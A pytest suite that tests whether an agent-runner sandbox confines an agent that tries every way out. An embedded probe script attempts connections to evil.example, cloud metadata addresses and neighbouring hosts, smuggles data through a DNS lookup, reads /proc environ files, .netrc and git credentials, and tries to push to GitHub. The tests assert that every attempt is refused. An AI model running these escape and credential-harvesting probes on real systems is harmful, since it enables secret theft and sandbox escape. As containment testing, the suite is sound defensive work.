"""What an agent can reach from inside of a whole run, when it tries everything."""

import json
import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from runner.clients.docker import engine
from tests.parts.cli import Project, skill_files

pytestmark = pytest.mark.docker

KEY = "sk-the-real-key-0123456789abcdef"
YAML = """
description: Try to get out
on: {manual: {}}
environment: {network: {allow: [pypi, api.example.com]}}
harness: {kind: command, command: [python3, -I, /workspace/probe.py]}
output: {pull_request: {title: "docs: probe", paths: ["docs/**"]}}
"""
PROBE = r"""
import glob, json, os, socket, subprocess, urllib.request
found = {}
def reach(name, family, kind, address):
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(2)
            one.connect(address)
            one.send(b"GET / HTTP/1.0\r\n\r\n")
            found[name] = repr(one.recv(100))
    except OSError as error:
        found[name] = "no: " + type(error).__name__
for name, address in json.load(open("/workspace/targets.json")).items():
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    reach("tcp " + name, family, socket.SOCK_STREAM, tuple(address))
reach("udp dns", socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53))
reach("udp 6", socket.AF_INET6, socket.SOCK_DGRAM, ("2001:4860:4860::8888", 53))
for kind in ("SOCK_RAW",):
    try:
        socket.socket(socket.AF_INET, getattr(socket, kind), socket.IPPROTO_ICMP)
        found[kind] = "made"
    except OSError as error:
        found[kind] = "no: " + type(error).__name__
for name in (
    "example.com", "host.docker.internal", "secret-in-a-name.evil.example", "metadata.google.internal"
):
    try:
        found["name " + name] = socket.gethostbyname(name)
    except OSError as error:
        found["name " + name] = "no: " + type(error).__name__
for url in ("https://evil.example/", "http://evil.example/", "https://api.github.com/gists",
            "http://169.254.169.254/latest/meta-data/", "https://pypi.org.evil.example/"):
    try:
        found["proxy " + url] = urllib.request.urlopen(url, timeout=5).read(100).decode()
    except Exception as error:
        found["proxy " + url] = f"no: {error}"
for url in ("https://evil.example/", "https://pypi.org/"):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        found["direct " + url] = opener.open(url, timeout=5).read(100).decode()
    except Exception as error:
        found["direct " + url] = "no"
seen = []
for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"),
             os.path.expanduser("~/.netrc"), "/workspace/.git/config", "/etc/resolv.conf", "/etc/hosts"]:
    try:
        seen.append(open(path, "rb").read().decode(errors="replace"))
    except OSError:
        pass
asked = {"input": "url=https://github.com\n\n", "text": True, "capture_output": True}
silent = {**os.environ, "GIT_TERMINAL_PROMPT": "0"}
fill = subprocess.run(["git", "credential", "fill"], env=silent, **asked)
found["everything"] = "\n".join(seen) + fill.stdout
found["devices"] = open("/proc/net/dev").read().count(":")
os.makedirs("/workspace/docs", exist_ok=True)
json.dump(found, open("/workspace/docs/probe.json", "w"))
"""


@pytest.fixture
def neighbour(local_image: str) -> Iterator[str]:
    """Another container on this engine that serves, and its address there."""
    command = ["docker", "run", "--detach", "--rm", local_image, "python3", "-m", "http.server", "8000"]
    made = subprocess.run(command, check=True, capture_output=True, text=True).stdout.strip()
    try:
        yield str(engine.client().inspect_container(made)["NetworkSettings"]["IPAddress"])
    finally:
        engine.remove(made)


@pytest.fixture
def service() -> Iterator[int]:
    """A service of this machine that listens on every address and asks for no password; its port."""
    with socket.create_server(("0.0.0.0", 0)) as server:

        def answer() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.sendall(b"welcome")

        thread = threading.Thread(target=answer)
        thread.start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


def test_nothing_is_reached_but_what_the_skill_names(
    project: Project, local_image: str, service: int, neighbour: str
) -> None:
    addresses = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=True).stdout.split()
    bridge = engine.client().inspect_network("bridge")["IPAM"]["Config"][0].get("Gateway", "172.17.0.1")
    targets = {
        "the internet": ("1.1.1.1", 443),
        "the internet by IPv6": ("2606:4700:4700::1111", 443),
        "metadata": ("169.254.169.254", 80),
        "metadata by IPv6": ("fd00:ec2::254", 80),
        "a neighbour": (neighbour, 8000),
        "the bridge": (bridge, service),
        "the loopback device": ("127.0.0.1", service),
        "its IPv6": ("::1", service),
        **{f"this machine at {one}": (one, service) for one in addresses},
    }
    files = skill_files("probe", YAML)
    project.commit({**files, "probe.py": PROBE, "targets.json": json.dumps(targets)})
    project.variables.update(
        {"SKILLRUNNER_IMAGE": local_image, "ANTHROPIC_API_KEY": KEY, "GITHUB_TOKEN": KEY}
    )
    done = project.skillrunner("run", "probe", "--json")
    assert done.code == 0, done.err
    found = json.loads(project.git("show", "skillrunner/probe/default:docs/probe.json", cwd=project.origin))

    assert KEY not in found.pop("everything")
    assert found.pop("devices") == 1
    assert {what: answer for what, answer in found.items() if not answer.startswith("no")} == {}
    assert len(found) == len(targets) + 2 + 1 + 4 + 5 + 2

    attempts = [
        json.loads(line) for line in _artifact(project, done.json()["id"], "egress.jsonl").splitlines()
    ]
    assert {one["host"] for one in attempts} >= {"evil.example", "api.github.com", "pypi.org.evil.example"}
    assert all(one["refused"] for one in attempts)
    assert "not let out: evil.example: it is not in `environment.network.allow`" in done.err


def _artifact(project: Project, run: str, name: str) -> str:
    (found,) = [
        one for one in project.skillrunner("show", run, "--json").json()["artifacts"] if one["name"] == name
    ]
    return Path(os.fspath(found["path"])).read_text()


AGAIN = """
description: Rewrite what set-up and verification run
on: {{manual: {{}}}}
environment:
  setup: [sh build/setup.sh]
  setup_again: {again}
  network: {{allow: [pypi]}}
harness: {{kind: command, command: [sh, -c, "cp agent.sh build/setup.sh; cp agent.sh build/verify.sh"]}}
verify: [sh build/verify.sh]
output: {{pull_request: {{title: "build: rewrite", paths: ["build/**"]}}}}
"""
FETCH = "python3 -c \"import socket; print(socket.create_connection(('{}', {}), 3).recv(9))\"\n"


@pytest.mark.parametrize("again", ["false", "true"])
def test_what_an_agent_wrote_has_no_route_in_verification(
    project: Project, local_image: str, service: int, again: str
) -> None:
    """Set-up itself has a network, on the base. Nothing that the agent changed ever runs with it."""
    bridge = engine.client().inspect_network("bridge")["IPAM"]["Config"][0].get("Gateway", "172.17.0.1")
    fetch = FETCH.format(bridge, service)
    leak = f"if {fetch.strip()} 2> /dev/null; then echo LEAKED; else echo sealed; fi\n"
    project.variables["SKILLRUNNER_IMAGE"] = local_image
    base = {"build/setup.sh": fetch, "build/verify.sh": "false\n", "agent.sh": leak}
    project.commit({**skill_files("rewrite", AGAIN.format(again=again)), **base})
    done = project.skillrunner("run", "rewrite", "--json")
    assert done.code == 0, done.err
    (check,) = done.json()["checks"]
    assert (check["ok"], check["output"].strip()) == (True, "sealed")
    assert done.err.count("set up: sh build/setup.sh") == (3 if again == "true" else 2)


def test_a_failed_set_up_leaves_no_route_either(project: Project, local_image: str, service: int) -> None:
    bridge = engine.client().inspect_network("bridge")["IPAM"]["Config"][0].get("Gateway", "172.17.0.1")
    leak = f"{FETCH.format(bridge, service).strip()} && exit 0; exit 3\n"
    project.variables["SKILLRUNNER_IMAGE"] = local_image
    base = {"build/setup.sh": "true\n", "build/verify.sh": "true\n", "agent.sh": leak}
    project.commit({**skill_files("rewrite", AGAIN.format(again="true")), **base})
    done = project.skillrunner("run", "rewrite", "--json")
    end = done.json()["end"]
    assert (end["state"], end["reason"]) == ("failed", "setup_failed")
    assert "exit 3" in end["message"]
    assert "skillrunner/rewrite/default" not in project.branches()


PUSH = """
import subprocess
told = subprocess.run(
    ["git", "push", "https://github.com/acme/tool", "HEAD:evil"],
    cwd="/workspace", capture_output=True, text=True,
)
import os
os.makedirs("/workspace/docs", exist_ok=True)
open("/workspace/docs/told.txt", "w").write(told.stderr)
"""


def test_git_comes_to_the_gateway_which_lets_no_push_through(project: Project, local_image: str) -> None:
    yaml = YAML.replace("[pypi, api.example.com]", "[github-read]")
    project.commit({**skill_files("probe", yaml), "probe.py": PUSH})
    project.variables["SKILLRUNNER_IMAGE"] = local_image
    done = project.skillrunner("run", "probe", "--json")
    assert done.code == 0, done.err
    told = project.git("show", "skillrunner/probe/default:docs/told.txt", cwd=project.origin)
    assert "403" in told
    (attempt,) = map(json.loads, _artifact(project, done.json()["id"], "egress.jsonl").splitlines())
    assert attempt["host"] == "github.com"
    assert attempt["refused"] == "repositories are only read: git fetch and git clone, and no push"
